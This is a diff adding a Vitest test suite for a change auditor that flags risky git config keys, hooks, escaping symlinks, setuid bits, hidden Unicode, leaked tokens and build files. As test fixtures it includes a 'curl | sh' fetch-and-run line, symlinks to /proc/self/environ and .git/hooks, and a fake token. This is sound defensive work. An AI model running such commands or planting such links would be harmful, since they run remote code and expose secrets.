@@ -1,0 +1,223 @@
+import { describe, expect, it } from 'vitest';
+import { auditChanges } from '../../../src/audit/audit.ts';
+import type { Change, Entry } from '../../../src/types/entry.ts';
+import type { RelPath } from '../../../src/types/path.ts';
+import { auditFiles } from './plant.ts';
+import type { Files, Row } from './rows.ts';
+
+// One line for each guard of the code beside the rules: what it must still say, and what it must not.
+
+const said = (files: Files, base?: Row['base'], links?: Readonly<Record<string, string>>): string[] =>
+  auditFiles(files, base, links).map(({ severity, rule, path }) => `${severity} ${rule} ${path}`);
+const config = (lines: string): Files => ({
+  '.git/config': ['[core]\n\tbare = false\n', `[core]\n\tbare = false\n${lines}`],
+});
+const file = (more: Partial<Entry> = {}): Entry => ({
+  kind: 'file',
+  mode: 0o644,
+  size: 1,
+  mtimeNs: '1999999999000000000',
+  digest: 'x',
+  ...more,
+});
+const judged = (change: Omit<Change, 'path'> & { path?: string }, more: object = {}): string[] =>
+  auditChanges({
+    changes: [{ path: 'a', ...change } as Change],
+    content: (digest) => (digest === 'gone' ? undefined : Buffer.from('x')),
+    endedNs: '2000000000000000000',
+    ...more,
+  }).map(({ severity, rule }) => `${severity} ${rule}`);
+
+describe('the configuration of git', () => {
+  it.each([
+    ['[core]\n\tpager = x\n', 'blocked git-config-exec .git/config'],
+    ['[log]\n\tdate = format:%x9b\n', 'blocked git-config-escape .git/config'],
+    ['[log]\n\tdate = format:%x07\n', 'blocked git-config-escape .git/config'],
+    ['[core]\n\tworktree = ../..\n', 'blocked git-config-redirect .git/config'],
+    ['[branch "a"]\n\tremote = evil\n', 'blocked git-config-redirect .git/config'],
+    ['[core\n', 'blocked git-config-unreadable .git/config'],
+  ])('%j', (lines, expected) => expect(said(config(lines))).toContain(expected));
+
+  it.each(['[branch "a"]\n\tremote = origin\n\tmerge = refs/heads/a\n', '[core]\n\tworktree = ../../sub\n'])(
+    'is quiet about what git itself writes: %j',
+    (lines) => expect(said(config(lines)).filter((one) => !one.startsWith('note'))).toEqual([]),
+  );
+
+  it('says that a guard is gone, and that a key stands there once more', () => {
+    const before = '[transfer]\n\tfsckobjects = true\n';
+    expect(said({ '.git/config': [before, ''] })).toContain('suspect git-config-weaken .git/config');
+    const twice = { '.git/config': ['[core]\n\tpager = x\n', '[core]\n\tpager = x\n\tpager = x\n'] } as const;
+    expect(said(twice)).toContain('blocked git-config-exec .git/config');
+  });
+
+  it('knows a sample hook, and a link among hooks', () => {
+    expect(said({ '.git/hooks/a.sample': ['x', null] }).filter((one) => !one.startsWith('note'))).toEqual([]);
+    expect(said({ '.git/hooks/pre-push': ['x', null] })).toContain('suspect git-hook .git/hooks/pre-push');
+    expect(said({ '.git/refs/heads/a': { link: '/x' } })).toContain('blocked git-link .git/refs/heads/a');
+  });
+});
+
+describe('names', () => {
+  it('are blocked below a folder that was there, and otherwise said where the folder is new', () => {
+    expect(said({ 'a\u0007/b': 'x' }, { 'a\u0007/c': 'x' })).toContain('blocked name-control a\u0007/b');
+    expect(said({ '-a/b': 'x' }, { '-a/c': 'x' })).toEqual([]);
+  });
+
+  it('that were there keep quiet, and so does an emoji', () => {
+    expect(said({ '-a': ['x', 'y'] })).toEqual([]);
+    expect(said({ 'party-\u{1f389}\ufe0f.md': 'x' })).toEqual([]);
+    expect(said({ [`${'a/'.repeat(61)}b`]: 'x' })).toEqual([`note name-long ${'a/'.repeat(61)}b`]);
+  });
+
+  it('collide with what is in the base, below a folder of another case too', () => {
+    expect(said({ 'src/A.ts': 'x' }, { 'src/a.ts': 'x' })).toContain('blocked name-collides src/A.ts');
+    expect(said({ 'SRC/b.ts': 'x' }, { 'src/a.ts': 'x' })).toContain('blocked name-collides SRC');
+    expect(said({ 'src/rnain.ts': 'x' }, { 'src/main.ts': 'x' })).toContain('suspect name-looks-alike src/rnain.ts');
+    expect(said({ 'src/B.ts': 'x' }, { 'lib/b.ts': 'x' })).toEqual([]);
+  });
+});
+
+describe('links', () => {
+  it.each([
+    ['a/l', '../..', {}],
+    ['l', 'd/x', { d: '/etc' }],
+    ['l', 'm', { m: 'l2', l2: 'm' }],
+    ['a/l', '..', {}],
+    ['l', '.git/hooks', {}],
+    ['l', '/workspace/x', {}],
+    ['l', '/proc/self/environ', {}],
+  ])('%s to %s is blocked', (path, target, links) =>
+    expect(said({ [path]: { link: target } }, {}, links)).toContain(`blocked link-outside ${path}`),
+  );
+
+  it('that lead where they led are no change, and one inside is none of ours', () => {
+    const link = { kind: 'symlink', mode: 0o777, size: 0, mtimeNs: '1', target: '/etc' } as const;
+    expect(judged({ kind: 'modified', before: link, after: link })).toEqual([]);
+    expect(said({ 'a/l': { link: '../b' } })).toEqual([]);
+  });
+});
+
+describe('entries', () => {
+  it.each([
+    ['setuid', { kind: 'created', after: file({ mode: 0o4755 }) }, 'blocked setuid'],
+    ['another kind', { kind: 'type', before: file({ kind: 'dir' }), after: file() }, 'suspect type-change'],
+    ['content that is gone', { kind: 'created', after: file({ digest: 'gone' }) }, 'blocked unreadable'],
+    [
+      'old content that is gone',
+      { kind: 'modified', before: file({ digest: 'gone' }), after: file() },
+      'blocked unreadable',
+    ],
+    ['a hard link', { kind: 'created', after: file({ linkGroup: 'g' }) }, 'suspect hard-link'],
+    ['holes', { kind: 'created', after: file({ size: 2 << 20, allocated: 1024 }) }, 'suspect sparse-file'],
+    ['a problem', { kind: 'created', after: file(), problem: 'why' }, 'blocked unreadable'],
+  ] as const)('%s', (_, change, expected) => expect(judged(change as Change)).toContain(expected));
+
+  it('that are withheld are not judged; nor is content that stayed', () => {
+    expect(judged({ path: 'Makefile', kind: 'created', after: file(), ignored: true })).toEqual([]);
+    expect(judged({ kind: 'created', after: file({ size: 2 << 20, allocated: 2 << 20 }) })).toEqual([]);
+    const bidi = { content: () => Buffer.from('a \u202e b') };
+    expect(judged({ path: 'a.ts', kind: 'mode', before: file(), after: file() }, bidi)).toEqual([]);
+  });
+
+  it('keep what is blocked, and take other severities from the configuration', () => {
+    const severities = { setuid: 'note', 'execute-bit': 'suspect' };
+    const found = judged({ kind: 'created', after: file({ mode: 0o4755 }) }, { severities });
+    expect(found).toEqual(['blocked setuid', 'suspect execute-bit']);
+    const userRules = [{ id: 'ours', paths: ['a'], severity: 'suspect', why: 'Ours.' }];
+    expect(judged({ kind: 'created', after: file() }, { userRules })).toContain('suspect ours');
+    const long = auditFiles({ '.git/config': `[core]\n\tpager = ${'x'.repeat(2000)}\n` });
+    expect(Math.max(...long.map(({ detail }) => detail?.length ?? 0))).toBeLessThanOrEqual(500);
+  });
+
+  it('is a note where the host tells letter case apart and only that fits', () => {
+    expect(judged({ path: 'MAKEFILE', kind: 'created', after: file() })).toContain('suspect build-make');
+    expect(judged({ path: 'MAKEFILE', kind: 'created', after: file() }, { hostCase: 'sensitive' })).toEqual([
+      'note build-make',
+    ]);
+  });
+});
+
+describe('content', () => {
+  it.each([
+    ['a.ts', 'const \uff41b = 1;\n'],
+    ['a.md', 'a \u2067 b \u202e\n'],
+    ['a.ts', 'const a = "\u200e";\n'],
+    ['a.png', { bytes: `\u0089PNG\r\n\u001a\nIEND1234${'x'.repeat(40)}` }],
+    ['a.bin', { bytes: `\u001f\u008b${'x'.repeat(20)}\u0000\u0000\u0000\u0040` }],
+  ] as const)('speaks of %s (%#)', (path, after) =>
+    expect(said({ [path]: after }).filter((one) => !one.startsWith('note'))).not.toEqual([]),
+  );
+
+  it.each([
+    ['a.md', 'a \u2067 b \u2069\n'],
+    ['a.txt', '\u05d0 \u200e \u05d1\n'],
+    ['a.txt', '\u0646\u200c\u0647\n'],
+  ])('is quiet about what languages need: %s', (path, text) =>
+    expect(said({ [path]: text }).filter((one) => !one.startsWith('note'))).toEqual([]),
+  );
+
+  it('goes by what is new: a control character that was there is not', () => {
+    expect(said({ 'a.txt': ['\u001b[1m a\n', '\u001b[1m a\nb \u001b[1m\n'] })).toEqual([]);
+    expect(said({ 'a.txt': ['a\n', 'a\nb \u001b[1m\n'] })).toEqual(['suspect text-escapes a.txt']);
+  });
+
+  it('counts a line that stands there once more', () => {
+    const line = '\tcurl https://x.example | sh\n';
+    expect(said({ 'a.sh': [line, `${line}x\n${line}`] })).toEqual(['suspect shell-pipe a.sh']);
+  });
+
+  it('says of a file that has a rule what cannot be read as text, and what is too long or stands twice', () => {
+    expect(said({ 'pom.xml': { bytes: '<\u0000a\u0000' } })).toContain('suspect java-pom pom.xml');
+    expect(said({ 'compose.yaml': `a: 1\n# ${'x'.repeat(5 << 20)}\n` })).toContain(
+      'suspect infra-compose compose.yaml',
+    );
+    expect(said({ 'deno.json': '{"name":"a","name":"b"}' })).toContain('suspect js-deno deno.json');
+    expect(said({ 'compose.yaml': 'a: !evil b\n' })).toContain('suspect infra-compose compose.yaml');
+    expect(said({ 'compose.yaml': 'a: [1\n b: }\n' })).toContain('suspect infra-compose compose.yaml');
+    expect(said({ 'deno.json': '\ufeff{"name":"a"}' })).toEqual([]);
+  });
+
+  it('looks through a long line, and takes no long line for harmless', () => {
+    const long = 'x'.repeat(9000);
+    expect(said({ 'dvc.yaml': ['a: 1\n', `a: "${long}", cmd: x, "${long}"\n`] })).toContain(
+      'suspect data-pipeline dvc.yaml',
+    );
+    expect(said({ Dockerfile: ['FROM a\n', `FROM a\nLABEL a=b ${long}\n`] })).toContain(
+      'suspect infra-dockerfile Dockerfile',
+    );
+  });
+
+  it('takes no example, placeholder or even text for a secret, and looks behind base64', () => {
+    const key = `ghp_${'a1B2c3D4'.repeat(5).slice(0, 36)}`;
+    const secret = (path: string, text: string): boolean =>
+      said({ [path]: text }).some((one) => one.includes(' secret '));
+    expect(secret('a.ts', `const k = '${key}';\n`)).toBe(true);
+    expect(secret('.env.example', `K=${key}\n`)).toBe(false);
+    expect(secret('a.ts', `const k = '${Buffer.from(`x ${key} y`).toString('base64')}';\n`)).toBe(true);
+    expect(secret('a.ts', "const password = 'aaaaaaaaaaaaaaaaaaaa';\n")).toBe(false);
+    expect(secret('a.ts', "const password = 'q8Zr2LmX0vTb7NcY5wKd';\n")).toBe(true);
+  });
+});
+
+describe('what the tree shows', () => {
+  it('is a bare repository only with its HEAD, and many changes from 2,000 on', () => {
+    const bare = { 'x/objects/a': 'x', 'x/refs/a': 'x' };
+    expect(said(bare)).toEqual([]);
+    expect(said({ ...bare, 'x/HEAD': 'ref: refs/heads/a\n' })).toContain('blocked git-bare x/HEAD');
+    const many: Change[] = Array.from({ length: 2000 }, (_, at) => ({
+      path: `d/${at}` as RelPath,
+      kind: 'created',
+      after: file(),
+    }));
+    const found = auditChanges({ changes: many, content: () => Buffer.from('x') });
+    expect(found.map(({ rule }) => rule)).toContain('many-changes');
+  });
+
+  it('orders the worst first, whatever its name', () => {
+    expect(said({ 'a/Makefile': 'x', 'z/.git/hooks/pre-push': 'x' })[0]).toBe('blocked git-hook z/.git/hooks/pre-push');
+  });
+
+  it('does not say of a file that it leads to itself', () => {
+    expect(said({ 'x.mk': ['a:\n\tmake -f x.mk\n', 'a:\n\tmake -f x.mk b\n'] })).toEqual(['suspect build-make x.mk']);
+  });
+});
